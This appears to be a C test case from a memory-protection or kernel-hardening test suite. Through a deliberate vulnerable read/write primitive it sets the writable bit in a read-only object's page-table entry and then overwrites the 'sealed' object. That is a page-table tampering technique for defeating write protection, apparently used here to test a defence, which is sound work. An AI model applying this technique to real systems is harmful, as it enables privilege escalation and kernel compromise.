/* Sets the writable bit again, in the page table itself, and then writes. */
#include "attack.h"

enum { ENTRY_WRITABLE = 2 };

int main(void)
{
	struct bw_sealed sealed;
	const struct bw_sealed_object *target = &sealed.of_mode[BW_SEALED_RO];
	uint64_t entry;

	attack_sealed(&sealed);
	entry = (uint64_t)bw_vuln_read(target->entry);
	attack_say("the entry at 0x%lx is 0x%lx: setting bit 1", target->entry, entry);
	attack_check("vuln_write", bw_vuln_write(target->entry, entry | ENTRY_WRITABLE));
	attack_overwrite(target->object, "the sealed object");
	return attack_finish();
}
